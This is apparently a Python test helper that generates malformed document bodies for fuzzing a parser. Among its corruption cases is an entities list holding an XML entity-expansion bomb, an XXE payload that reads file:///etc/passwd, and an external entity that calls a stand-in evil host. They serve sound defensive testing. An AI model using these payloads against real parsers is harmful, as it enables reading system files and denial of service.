"""Breaks whole bodies as enemies do, beyond the single faults of ``mutate``; the same seed breaks alike."""

from __future__ import annotations

import random
from collections.abc import Sequence
from typing import Final

from tests.kit.bombs import PIECES
from tests.kit.mutate import mutations

CHARSETS: Final = (
    "utf-16",
    "utf-16-le",
    "utf-32",
    "shift_jis",
    "iso-2022-jp",
    "gb18030",
    "iso-8859-1",
    "utf-7",
    "nonsense",
)
_NESTS: Final = (
    *(
        (f"<{tag}>".encode(), f"</{tag}>".encode())
        for tag in "div ul><li b table><tr><td blockquote svg section item".split()
    ),
    *((b"[", b"]"), (b'{"a":', b"}"), (b"> ", b"\n"), (b"**", b"**"), (b"(", b")")),
)
_ENTITIES: Final = (
    *(b"&amp;" * 40, b"&#x202e;", b"&#0;", b"&#xD800;", b"&#x110000;", b"&lt;script&gt;", b"&" + b"a" * 3000 + b";"),
    b'<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z "&x;&x;&x;&x;&x;&x;&x;&x;">]>&z;',
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.invalid/"> %x;]>',
)
_PIECES: Final = tuple(piece.encode() for piece in PIECES.values())


def wild(body: bytes, others: Sequence[bytes], seed: int) -> tuple[bytes, str]:
    """A broken form of a body, and the charset that a server claims for it.

    Args:
        body: a good one.
        others: bodies to splice it with.
        seed: of the random choices.
    """
    chance = random.Random(seed)
    for _ in range(chance.choice((1, 1, 2))):
        body = _broken(body, others, chance)
    return body, chance.choice(CHARSETS) if chance.random() < 0.1 else ""


def _broken(body: bytes, others: Sequence[bytes], chance: random.Random) -> bytes:  # noqa: C901  # a row a kind
    at = chance.randrange(len(body) + 1)
    match chance.randrange(14):
        case 0:  # bits that fell over
            flipped = bytearray(body)
            for _ in range(chance.choice((1, 3, 30)) if body else 0):
                flipped[chance.randrange(len(flipped))] ^= 1 << chance.randrange(8)
            return bytes(flipped)
        case 1:  # cut short
            return body[:at]
        case 2:  # another body's end
            other = chance.choice(others)
            return body[:at] + other[chance.randrange(len(other) + 1) :]
        case 3:  # a piece of another in the middle
            other = chance.choice(others)
            start = chance.randrange(len(other) + 1)
            return body[:at] + other[start : start + chance.choice((50, 500, 5000))] + body[at:]
        case 4:  # a block that repeats
            block = body[at : at + chance.choice((20, 200, 2000))]
            return body[:at] + block * min(chance.choice((2, 20, 200)), 100_000 // (len(block) + 1) + 1) + body[at:]
        case 5:  # nesting
            opening, closing = chance.choice(_NESTS)
            deep = chance.choice((30, 300, 3000))
            return body[:at] + opening * deep + b"x" + closing * chance.choice((0, deep)) + body[at:]
        case 6:  # a charset that the body is not in
            return body.decode("utf-8", "replace").encode(chance.choice(CHARSETS[:7]), "replace")
        case 7:  # NULs
            return body[:at] + b"\0" * chance.choice((1, 100, 10_000)) + body[at:]
        case 8:  # huge attributes, and many
            many = b"".join(
                b' a%d="%s"' % (number, b"v" * chance.choice((1, 100)))
                for number in range(chance.choice((2, 90, 2000)))
            )
            return body[:at] + b"<p" + many + b" href='" + b"x" * chance.choice((1, 20_000)) + b"'>" + body[at:]
        case 9:  # entities
            return body[:at] + chance.choice(_ENTITIES) + body[at:]
        case 10:  # one long line
            return body.replace(b"\n", b" ")
        case 11:  # a bomb
            piece = chance.choice(_PIECES)
            return body[:at] + piece * (chance.choice((100, 5_000, 40_000)) // len(piece) + 1) + body[at:]
        case _:
            return next(mutations(body, 1, chance.getrandbits(63)))
